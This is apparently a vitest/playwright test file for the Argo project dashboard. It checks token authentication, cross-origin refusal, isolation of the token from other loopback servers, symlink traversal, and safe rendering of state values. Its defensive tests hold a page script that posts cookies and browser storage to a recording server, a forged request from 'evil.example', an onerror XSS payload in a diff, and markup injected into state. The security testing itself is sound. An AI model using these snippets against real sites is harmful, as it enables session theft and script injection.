// The dashboard in a real browser (Debian's chromium driven by playwright-core, no
// browser download): open the page with the token, watch a stand-in workflow move
// live, edit the components and approve, see the state change; no token → 401; a
// cross-origin POST is refused; a whole workflow steered from the page alone (stop,
// resume, approve, retry, merge again); the token never reaches another loopback
// port; values from state that are no class names. Without chromium (or a build in
// dist/) the tests are skipped with the reason, and fail under CI=true (require_tool.ts).
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { startDashboard, type Dashboard } from '../../dashboard/server.js';
import { parseJson } from '../../core/json_doc.js';
import { awaitingApproval, newProject } from './dashboard_fixtures.js';
import { mutateState, projectStatePaths } from '../../store/state.js';
import { tempDir, ROOT, until, scaled } from './helpers.js';
import { requireTool, type Tool } from './require_tool.js';

const CHROMIUM = process.env.ARGO_CHROMIUM || '/usr/bin/chromium';
const chromium: Tool = { name: `chromium at ${CHROMIUM}`, have: existsSync(CHROMIUM), install: 'apt-get install -y chromium (or set ARGO_CHROMIUM=/path/to/chromium)' };
const build: Tool = { name: 'build in dist/', have: existsSync(join(ROOT, 'dist', 'compat', 'argo.js')), install: 'npm run build' };

/** Records everything a server on another loopback port receives, and serves it a page. */
interface Seen {
  method: string;
  url: string;
  headers: Record<string, unknown>;
  body: string;
}
async function recordingServer(cleanups: (() => Promise<void> | void)[]): Promise<{ port: number; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer((q, r) => {
    const chunks: Buffer[] = [];
    q.on('data', (c: Buffer) => chunks.push(c));
    q.on('end', () => {
      seen.push({ method: q.method ?? '', url: q.url ?? '', headers: { ...q.headers }, body: Buffer.concat(chunks).toString('utf8') });
      // Its page reports whatever this origin can read of the browser back to its server.
      r.writeHead(200, { 'content-type': 'text/html' }).end(
        `<p>elsewhere</p><script>fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie, session: {...sessionStorage}, local: {...localStorage}, referrer: document.referrer})}).then(() => document.body.dataset.reported = '1')</script>`,
      );
    });
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  cleanups.push(() => new Promise<void>((r) => server.close(() => r())));
  return { port: (server.address() as { port: number }).port, seen };
}

const FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run', '--disable-sync'];

const savedEnv = { ARGO_PROJECTS_REGISTRY: process.env.ARGO_PROJECTS_REGISTRY, CI_COMMAND: process.env.CI_COMMAND };
const started: number[] = [];
const cleanups: (() => Promise<void> | void)[] = [];
afterAll(async () => {
  for (const c of cleanups.reverse()) await c();
  for (const [k, v] of Object.entries(savedEnv)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  for (const pid of started) {
    try {
      process.kill(pid);
    } catch {
      /* already gone */
    }
  }
});

function state(project: string): Record<string, any> {
  return JSON.parse(readFileSync(join(project, '.argo-project', 'state.json'), 'utf8'));
}

describe('dashboard in chromium', () => {
  beforeEach((ctx) => {
    requireTool(ctx, chromium);
    requireTool(ctx, build);
  });
  it('live workflow, approve with edited components, 401 without token, cross-origin POST refused', async () => {
    const { chromium } = await import('playwright-core');
    const work = tempDir();
    const project = join(work, 'calc');
    mkdirSync(project);
    const env = {
      ...process.env,
      ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'),
      CI_COMMAND: join(ROOT, 'compat', 'standin_ci'),
      STANDIN_CI_DELAY: '1',
      XDG_RUNTIME_DIR: join(work, 'run'),
    };
    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
    execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: project });
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '--allow-empty', '-m', 'init'], { cwd: project });
    execFileSync(join(ROOT, 'templates', 'project_setup.sh'), ['calc', project], { env, stdio: 'ignore' });

    const dash: Dashboard = await startDashboard({ host: '127.0.0.1', port: 0, token: 'browser-test-token-0123456789', root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
    cleanups.push(() => dash.close());
    const base = `http://127.0.0.1:${dash.port}`;

    // No token, no data: the page itself holds none and is served to anyone.
    expect((await fetch(`${base}/`)).status).toBe(200);
    expect((await fetch(`${base}/api/projects`)).status).toBe(401);
    expect((await fetch(`${base}/api/events`)).status).toBe(401);
    expect((await fetch(`${base}/api/events?token=wrong`)).status).toBe(401);

    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
    cleanups.push(() => browser.close());
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
    await page.goto(dash.url);
    expect(new URL(page.url()).hash).toBe(''); // the token left the address bar (kept in the page)
    expect(new URL(page.url()).search).toBe('');
    await page.locator('#projects li[data-id]').first().waitFor();
    await page.locator('#phase', { hasText: 'init' }).waitFor();

    // Start from the CLI; the page follows by itself.
    const start = spawnSync(join(ROOT, 'start_workflow.sh'), ['Build a calculator', project], { env, encoding: 'utf8' });
    expect(start.status).toBe(0);
    started.push(Number(readFileSync(join(project, '.argo-project', 'orchestrator.pid'), 'utf8')));
    await page.locator('#phase', { hasText: 'design' }).waitFor({ timeout: scaled(60_000) });
    await page.locator('button[data-action="approve"]').waitFor({ timeout: scaled(60_000) });
    await expect(page.locator('#design-summary').textContent()).resolves.toContain('Design for: Build a calculator');

    // Edit the components: two instead of the three proposed.
    await page.locator('#components').fill(JSON.stringify([{ id: 'engine', description: 'The engine' }, { id: 'ui', description: 'The UI' }]));
    await page.locator('button[data-action="approve"]').click();
    await page.locator('#phase', { hasText: /execution|merge_build|storage/ }).waitFor({ timeout: scaled(60_000) });
    await until('the approval in state.json', () => state(project).design?.approved === true, scaled(60_000), 50);
    expect(state(project).design.components.map((c: { id: string }) => c.id)).toEqual(['engine', 'ui']);

    // Builders appear live and end merged.
    await page.locator('#builders tr[data-builder="engine"]').waitFor({ timeout: scaled(60_000) });
    await page.locator('#phase', { hasText: 'storage' }).waitFor({ timeout: scaled(90_000) });
    await page.locator('#builders tr[data-builder="ui"] td.s-merged').waitFor({ timeout: scaled(30_000) });
    expect(state(project).phase).toBe('storage');
    // ARGO_DASHBOARD_SCREENSHOT=docs/dashboard.png refreshes the picture in the README.
    await page.screenshot({ path: process.env.ARGO_DASHBOARD_SCREENSHOT ? join(ROOT, process.env.ARGO_DASHBOARD_SCREENSHOT) : join(work, 'dashboard.png'), fullPage: true });

    // A page of another origin cannot steer: its POST (with a guessed token header) never gets through.
    let other: Server | undefined;
    await new Promise<void>((ok) => {
      other = createServer((_q, r) => r.writeHead(200, { 'content-type': 'text/html' }).end('<p>elsewhere</p>')).listen(0, '127.0.0.1', ok);
    });
    cleanups.push(() => new Promise<void>((r) => other!.close(() => r())));
    const evil = await browser.newPage();
    await evil.goto(`http://localhost:${(other!.address() as { port: number }).port}/`);
    const id = (await page.locator('#projects li[data-id]').first().getAttribute('data-id'))!;
    const before = readFileSync(join(project, '.argo-project', 'state.json'), 'utf8');
    const attempt = await evil.evaluate(async ([url, token]) => {
      const results: string[] = [];
      for (const init of [
        { method: 'POST', credentials: 'include' as const, headers: { authorization: `Bearer ${token!}`, 'content-type': 'application/json' }, body: '{}' },
        { method: 'POST', credentials: 'include' as const, mode: 'no-cors' as const, body: '{}' },
      ]) {
        try {
          const r = await fetch(url!, init);
          results.push(r.type === 'opaque' ? 'opaque' : String(r.status));
        } catch {
          results.push('blocked');
        }
      }
      return results;
    }, [`${base}/api/projects/${encodeURIComponent(id)}/merge`, 'guessed-token']);
    expect(attempt[0]).toBe('blocked'); // the preflight for the token header is never granted
    expect(readFileSync(join(project, '.argo-project', 'state.json'), 'utf8')).toBe(before);
    // And from outside a browser: the right token but another Origin is refused.
    const forged = await fetch(`${base}/api/projects/${encodeURIComponent(id)}/merge`, {
      method: 'POST',
      headers: { authorization: 'Bearer browser-test-token-0123456789', origin: 'http://evil.example' },
      body: '{}',
    });
    expect(forged.status).toBe(403);
    expect(readFileSync(join(project, '.argo-project', 'state.json'), 'utf8')).toBe(before);
  }, scaled(180_000));

  it('steer a whole workflow from the page: stop, resume, approve, retry a failed builder, merge again after a conflict', async () => {
    const { chromium } = await import('playwright-core');
    const work = tempDir();
    const project = join(work, 'shop');
    mkdirSync(project);
    // A CI tool that designs a, b, c; b fails on its first run; a and c write the same file (a conflict).
    const ci = join(work, 'ci.sh');
    writeFileSync(
      ci,
      `#!/bin/bash
prompt=$1
if [[ $prompt == *"Requirement:"* ]]; then
  echo 'Three parts:'; echo '[{"id": "a", "description": "A"}, {"id": "b", "description": "B"}, {"id": "c", "description": "C"}]'; exit 0
fi
[[ $prompt =~ \\'([^\\']+)\\' ]] && id=\${BASH_REMATCH[1]}
if [[ $id == b && ! -e ${work}/b-failed-once ]]; then touch ${work}/b-failed-once; echo "b: the tests failed" >&2; exit 3; fi
file=$id.txt; [[ $id == a || $id == c ]] && file=shared.txt
echo "made by $id" > "$file"
git add "$file" && git -c user.name=ci -c user.email=ci@ci commit -q -m "build $id"
`,
    );
    chmodSync(ci, 0o755);
    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), CI_COMMAND: ci, XDG_RUNTIME_DIR: join(work, 'run') };
    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
    process.env.CI_COMMAND = ci; // what the dashboard's Resume hands to the orchestrator it starts
    execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: project });
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '--allow-empty', '-m', 'init'], { cwd: project });
    execFileSync(join(ROOT, 'templates', 'project_setup.sh'), ['shop', project], { env, stdio: 'ignore' });
    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: 'steer-test-token', root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
    cleanups.push(() => dash.close());
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
    cleanups.push(() => browser.close());
    const page = await browser.newPage();
    await page.goto(dash.url);
    const pidNow = () => {
      try {
        return Number(readFileSync(join(project, '.argo-project', 'orchestrator.pid'), 'utf8'));
      } catch {
        return 0;
      }
    };

    expect(spawnSync(join(ROOT, 'start_workflow.sh'), ['Build a shop', project], { env }).status).toBe(0);
    started.push(pidNow());
    await page.locator('button[data-action="approve"]').waitFor({ timeout: scaled(60_000) });

    await page.locator('button[data-action="stop"]').click();
    await page.locator('#orchestrator', { hasText: /^Not running/ }).waitFor({ timeout: scaled(30_000) });
    await page.locator('button[data-action="resume"]').click();
    await page.locator('#orchestrator', { hasText: /^Running/ }).waitFor({ timeout: scaled(30_000) });
    started.push(pidNow());

    await page.locator('button[data-action="approve"]').click();
    // b failed, c conflicts with a: control to ci with the conflict shown.
    await page.locator('#builders tr[data-builder="b"][data-status="failed"]').waitFor({ timeout: scaled(60_000) });
    await page.locator('#conflicts', { hasText: 'c' }).waitFor({ timeout: scaled(60_000) });
    await page.locator('button[data-action="retry"][data-builder="b"]').click();
    await page.locator('#builders tr[data-builder="b"] td.s-merged').waitFor({ timeout: scaled(60_000) });
    await page.locator('#action', { hasText: 'resolve_conflicts' }).waitFor({ timeout: scaled(60_000) });

    // The person resolves c's conflict on its branch, then says so in the page.
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', 'merge', '-q', '-X', 'theirs', '-m', 'resolve', 'main'], { cwd: join(project, '.argo-project', 'builders', 'c') });
    await page.locator('button[data-action="merge"]').click();
    await page.locator('#phase', { hasText: 'storage' }).waitFor({ timeout: scaled(60_000) });
    const s = state(project);
    expect(s.merge.merged.sort()).toEqual(['a', 'b', 'c']);
    expect(s.execution.builders.map((b: { status: string }) => b.status)).toEqual(['completed', 'completed', 'completed']);
  }, scaled(240_000));
  it('the token reaches no other server on 127.0.0.1 or localhost, and what such a server sees cannot steer', async () => {
    const { chromium } = await import('playwright-core');
    const work = tempDir();
    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), XDG_RUNTIME_DIR: join(work, 'run') };
    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
    const project = newProject(work, 'calc', env);
    await awaitingApproval(project);
    const TOKEN = 'isolation-token-0123456789abcdef';
    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: TOKEN, root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
    cleanups.push(() => dash.close());
    expect(dash.url).toBe(`http://127.0.0.1:${dash.port}/#token=${TOKEN}`);
    const base = `http://127.0.0.1:${dash.port}`;
    const other = await recordingServer(cleanups);

    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
    cleanups.push(() => browser.close());
    const context = await browser.newContext(); // one cookie jar and storage for every page below
    const page = await context.newPage();
    await page.goto(dash.url);
    await page.locator('#phase', { hasText: 'design' }).waitFor();
    await page.locator('#connection', { hasText: 'live' }).waitFor();
    expect(page.url()).toBe(`${base}/`); // the fragment left the address bar
    await page.reload(); // kept for this tab in its own origin's sessionStorage
    await page.locator('#connection', { hasText: 'live' }).waitFor();
    await page.locator('button[data-action="approve"]').waitFor();
    expect(await context.cookies()).toEqual([]);

    // The same browser visits another server on another port of the same host, by both names.
    for (const host of ['127.0.0.1', 'localhost']) {
      const tab = await context.newPage();
      await tab.goto(`http://${host}:${other.port}/`);
      await tab.locator('body[data-reported="1"]').waitFor();
      await tab.close();
    }
    // And the dashboard's tab itself navigates there (what would a Referer or a cookie carry?).
    await page.goto(`http://localhost:${other.port}/from-dashboard`);
    await page.locator('body[data-reported="1"]').waitFor();
    // The dashboard under another name is another origin: it has no token either.
    await page.goto(`http://localhost:${dash.port}/`);
    await page.locator('#connection', { hasText: 'no token' }).waitFor();

    expect(other.seen.length).toBeGreaterThanOrEqual(6);
    for (const r of other.seen) {
      expect(r.headers.cookie).toBeUndefined();
      expect(JSON.stringify(r)).not.toContain(TOKEN);
    }

    // Everything that server saw, used as a credential: refused, and nothing changes.
    const stateFile = join(project, '.argo-project', 'state.json');
    const before = readFileSync(stateFile, 'utf8');
    const seenText = JSON.stringify(other.seen);
    const candidates = [...new Set(seenText.match(/[A-Za-z0-9_-]{16,}/g) ?? [])];
    const cookies = other.seen.map((r) => r.headers.cookie).filter((c): c is string => typeof c === 'string');
    const id = (await (await fetch(`${base}/api/projects`, { headers: { authorization: `Bearer ${TOKEN}` } })).json()).projects[0].id;
    for (const guess of ['', ...candidates]) {
      const r = await fetch(`${base}/api/projects/${encodeURIComponent(id)}/approve`, {
        method: 'POST',
        headers: { origin: base, 'content-type': 'application/json', authorization: `Bearer ${guess}`, 'x-argo-token': guess, ...(cookies.length ? { cookie: cookies.join('; ') } : {}) },
        body: JSON.stringify({ components: [{ id: 'pwned', description: 'from another port' }] }),
      });
      expect([401, 403]).toContain(r.status);
    }
    expect(readFileSync(stateFile, 'utf8')).toBe(before);
  }, scaled(120_000));

  it('a builder status or merge value that is no class name: the page still renders it as text, and Stop still works', async () => {
    const { chromium } = await import('playwright-core');
    const work = tempDir();
    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), CI_COMMAND: join(ROOT, 'compat', 'standin_ci'), XDG_RUNTIME_DIR: join(work, 'run') };
    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
    const project = newProject(work, 'odd', env);
    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: 'odd-values-token', root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
    cleanups.push(() => dash.close());
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
    cleanups.push(() => browser.close());
    const page = await browser.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(dash.url);

    expect(spawnSync(join(ROOT, 'start_workflow.sh'), ['Build odd things', project], { env }).status).toBe(0);
    started.push(Number(readFileSync(join(project, '.argo-project', 'orchestrator.pid'), 'utf8')));
    await page.locator('button[data-action="approve"]').waitFor({ timeout: scaled(60_000) }); // the orchestrator waits for the user
    const odd = 'bad value <b>x</b>';
    await mutateState(projectStatePaths(project, {}), (doc) => {
      doc.set(
        'execution',
        parseJson(JSON.stringify({ builders: [{ id: 'weird', status: odd, merge: 'also bad', started: null }, { id: 'dots', status: 'a.b#c', merge: { status: 'x y' } }] }), 'test'),
      );
    });
    await page.locator('#builders tr[data-builder="weird"]').waitFor({ timeout: scaled(15_000) });
    expect(await page.locator('#builders tr[data-builder="weird"] td').nth(1).textContent()).toBe(odd);
    expect(await page.locator('#builders tr[data-builder="weird"] td').nth(7).textContent()).toBe('also bad');
    expect(await page.locator('#builders tr[data-builder="dots"] td').nth(1).textContent()).toBe('a.b#c');
    expect(await page.locator('#builders b').count()).toBe(0); // data, never markup
    expect(await page.locator('#c').count()).toBe(0); // nor an id
    expect(await page.locator('#builders tr[data-builder="weird"] td').nth(1).getAttribute('class')).toBe('status s-other');

    await page.locator('button[data-action="stop"]').click();
    await page.locator('#orchestrator', { hasText: /^Not running/ }).waitFor({ timeout: scaled(30_000) });
    await page.locator('button[data-action="resume"]').waitFor();
    expect(errors).toEqual([]);
  }, scaled(120_000));

  it('dependency waves: a waiting builder shows "waiting for: core" and its wave, a blocked one why', async () => {
    const { chromium } = await import('playwright-core');
    const work = tempDir();
    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), XDG_RUNTIME_DIR: join(work, 'run') };
    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
    const project = newProject(work, 'waves', env);
    const builders = [
      { id: 'core', status: 'completed', depends_on: [], exit_code: 0 },
      { id: 'ui', status: 'pending', depends_on: ['core'], waiting_for: ['core'] },
      { id: 'docs', status: 'failed', depends_on: ['api'], failure: 'dependency', failure_message: 'dependency api failed', exit_code: 1 },
      { id: 'api', status: 'failed', depends_on: [], exit_code: 3 },
    ];
    await mutateState(projectStatePaths(project, {}), (doc) => void doc.set('execution', parseJson(JSON.stringify({ builders }), 'test')));
    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: 'waves-token', root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
    cleanups.push(() => dash.close());
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
    cleanups.push(() => browser.close());
    const page = await browser.newPage();
    await page.goto(dash.url);
    const status = (id: string) => page.locator(`#builders tr[data-builder="${id}"] td`).nth(1);
    await page.locator('#builders tr[data-builder="ui"][data-status="waiting"]').waitFor({ timeout: scaled(15_000) });
    expect(await status('ui').textContent()).toBe('waitingwaiting for: corewave 2');
    expect(await status('core').textContent()).toBe('completedwave 1');
    expect(await page.locator('#builders tr[data-builder="docs"] td').nth(4).textContent()).toBe('dependencydependency api failed');
  }, scaled(60_000));

  it('limits (issue 19): a builder waiting on a limit shows its reason, resume time and waits; the agent in use; data stays text', async () => {
    const { chromium } = await import('playwright-core');
    const work = tempDir();
    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), XDG_RUNTIME_DIR: join(work, 'run') };
    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
    const project = newProject(work, 'limits', env);
    const odd = 'rate_limit s-failed <b>x</b>';
    const builders = [
      { id: 'a', status: 'waiting', waiting_reason: 'rate_limit', resume_at: '2026-12-03T15:02:00Z', waits: 2, agent: 'claude' },
      { id: 'b', status: 'completed', agent: 'codex', waits: 2 },
      { id: 'c', status: 'waiting', waiting_reason: odd, resume_at: 'never', waits: 1 },
    ];
    await mutateState(projectStatePaths(project, {}), (doc) => void doc.set('execution', parseJson(JSON.stringify({ builders }), 'test')));
    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: 'limits-token', root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
    cleanups.push(() => dash.close());
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
    cleanups.push(() => browser.close());
    const page = await browser.newPage({ timezoneId: 'UTC' });
    await page.goto(dash.url);
    const cell = (id: string, n: number) => page.locator(`#builders tr[data-builder="${id}"] td`).nth(n);
    await page.locator('#builders tr[data-builder="a"][data-status="waiting"]').waitFor({ timeout: scaled(15_000) });
    expect(await cell('a', 1).textContent()).toBe('waitingrate_limit until 15:02, wait 2 of 8'); // limits.rate_limit_max_waits: 8 by default
    expect(await page.locator('#builders tr[data-builder="a"] .limit-wait').getAttribute('title')).toBe('2026-12-03T15:02:00Z');
    expect(await cell('a', 0).textContent()).toBe('aclaude');
    expect(await cell('b', 0).textContent()).toBe('bcodex');
    expect(await cell('b', 1).textContent()).toBe('completed');
    // a reason from state is text: no markup, no class, an unreadable time left out
    expect(await cell('c', 1).textContent()).toBe(`waiting${odd}, wait 1 of 8`);
    expect(await page.locator('#builders b').count()).toBe(0);
    expect(await page.locator('#builders tr[data-builder="c"] .limit-wait').getAttribute('class')).toBe('limit-wait');
    expect(await cell('c', 1).getAttribute('class')).toBe('status s-pending');
  }, scaled(60_000));

  it('merge conflicts (issue 20): files, worktree, branch and argo merge as text; the diff loaded through the token-guarded endpoint; a symlink out shows why', async () => {
    const { chromium } = await import('playwright-core');
    const work = tempDir();
    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), XDG_RUNTIME_DIR: join(work, 'run') };
    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
    const project = newProject(work, 'conflicts', env);
    const logs = join(project, '.argo-project', 'logs');
    mkdirSync(logs, { recursive: true });
    writeFileSync(join(logs, 'merge-cli.diff'), 'diff --cc src/a.ts\n<<<<<<< HEAD\n<img src=x onerror="document.title=1">\n');
    writeFileSync(join(work, 'secret.txt'), 'TOP SECRET');
    symlinkSync(join(work, 'secret.txt'), join(logs, 'merge-api.diff'));
    const record = (id: string, files: string[]) => ({ status: 'conflict', target: 'main', attempts: 0, files, diff: `.argo-project/logs/merge-${id}.diff`, worktree: join(project, '.argo-project', 'builders', id), branch: `argo-builder-${id}`, message: 'the resolver gave up' });
    const builders = [
      { id: 'cli', status: 'completed', merge: record('cli', ['src/a.ts', 'odd <b>name</b>\nline']) },
      { id: 'api', status: 'completed', merge: record('api', ['x.ts']) },
      { id: 'ui', status: 'completed', merge: { status: 'resolved_by_agent', commit: 'c', attempts: 1, files: ['u.ts'] } },
    ];
    await mutateState(projectStatePaths(project, {}), (doc) => {
      doc.set('phase', 'merge_build');
      doc.set('action_owner', 'ci');
      doc.set('action_needed', 'resolve_conflicts');
      doc.set('merge_conflicts', parseJson('["cli", "api"]', 'test'));
      doc.set('execution', parseJson(JSON.stringify({ builders }), 'test'));
    });
    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: 'merge-token', root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
    cleanups.push(() => dash.close());
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
    cleanups.push(() => browser.close());
    const page = await browser.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(dash.url);
    const cli = page.locator('#step-in .step-in-builder[data-builder="cli"]');
    await cli.waitFor({ timeout: scaled(15_000) });
    expect(await cli.locator('ul.files li').allTextContents()).toEqual(['src/a.ts', 'odd <b>name</b>\nline']);
    expect(await cli.locator('.where').textContent()).toBe(`work in ${join(project, '.argo-project', 'builders', 'cli')} on branch argo-builder-cli (target main)`);
    expect(await page.locator('#step-in pre.commands').textContent()).toMatch(/compat\/argo merge .*conflicts$/);
    expect(await page.locator('#merge-totals').textContent()).toBe('Merge: 0 merged, 2 conflict, 1 resolved_by_agent, 0 verify_failed, 0 skipped');
    expect(await page.locator('#builders tr[data-builder="ui"] td').nth(7).getAttribute('class')).toBe('s-merged');
    await cli.locator('button[data-action="diff"]').click();
    await cli.locator('pre.diff').waitFor({ timeout: scaled(15_000) });
    expect(await cli.locator('pre.diff').textContent()).toContain('<img src=x onerror="document.title=1">');
    const api = page.locator('#step-in .step-in-builder[data-builder="api"]');
    await api.locator('button[data-action="diff"]').click();
    await api.locator('.diff-problem').waitFor({ timeout: scaled(15_000) });
    expect(await api.locator('.diff-problem').textContent()).toBe("diff not shown: .argo-project/logs/merge-api.diff is not inside the project's .argo-project/logs folder (refused)");
    expect(await page.content()).not.toContain('TOP SECRET');
    expect(await page.locator('#step-in b, #step-in img').count()).toBe(0); // data, never markup
    expect(await page.title()).toBe('Argo dashboard');
    expect(errors).toEqual([]);
    // The endpoint wants the token like every API request.
    expect((await fetch(`http://127.0.0.1:${dash.port}/api/projects/${encodeURIComponent('x')}/merge/cli`)).status).toBe(401);
  }, scaled(60_000));
});
